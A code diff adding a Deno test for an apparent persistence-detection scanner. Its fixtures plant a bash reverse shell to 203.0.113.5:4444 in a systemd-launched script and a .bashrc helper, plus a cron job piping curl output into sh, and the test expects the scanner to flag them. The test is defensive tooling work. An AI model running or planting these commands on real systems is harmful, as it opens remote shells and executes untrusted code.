@@ -214,6 +214,35 @@ Deno.test(needs(["root"], {
   },
 }));
 
+Deno.test("persistence: a clean-looking entry that runs a script holding a payload is judged by the script", async () => {
+  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
+  using root = makeTree(base({
+    "etc/systemd/system/syshealth.service": "[Service]\nExecStart=/usr/local/bin/syshealth.sh\n" +
+      "[Install]\nWantedBy=multi-user.target\n",
+    "etc/systemd/system/multi-user.target.wants/syshealth.service": {
+      symlink: "/etc/systemd/system/syshealth.service",
+    },
+    "usr/local/bin/syshealth.sh": { content: `#!/bin/sh\n# health\n${rev}\n`, mode: 0o755 },
+    "etc/cron.d/logsync": "*/10 * * * * root /opt/logsync/run.sh --quiet\n",
+    "opt/logsync/run.sh": { content: "#!/bin/sh\ncurl -fsSL http://203.0.113.5/x | sh\n", mode: 0o755 },
+    "home/bob/.bashrc": ". /usr/share/misc/prompt-helper\n",
+    "usr/share/misc/prompt-helper": `${rev} &\n`,
+    // Quiet: a script with nothing in it, and a program (NUL bytes) whose strings look like a payload.
+    "etc/cron.d/tidy": "0 4 * * * root /usr/local/sbin/tidy.sh\n",
+    "usr/local/sbin/tidy.sh": { content: "#!/bin/sh\nfind /var/tmp -mtime +7 -delete\n", mode: 0o755 },
+    "etc/cron.d/agent": "0 * * * * root /usr/local/sbin/agent\n",
+    "usr/local/sbin/agent": { content: `\u007fELF\u0002\u0001\u0000\u0000${rev}\u0000`, mode: 0o755 },
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings).filter((f) => f.includes("persistence.command")), [
+    "critical persistence.command.reverse_shell /etc/systemd/system/syshealth.service",
+    "critical persistence.command.reverse_shell /home/bob/.bashrc",
+    "high persistence.command.download_exec /etc/cron.d/logsync",
+  ]);
+  const unit = r.findings.find((f) => f.metadata.path === "/etc/systemd/system/syshealth.service")!;
+  assert.deepEqual(unit.metadata.indicators, ["dev_tcp_redirect:/usr/local/bin/syshealth.sh:3"]);
+});
+
 Deno.test("persistence: sudoers — passwordless root, !authenticate, env_keep of code, untrusted includes", async () => {
   using root = makeTree(base({
     "etc/sudoers": [
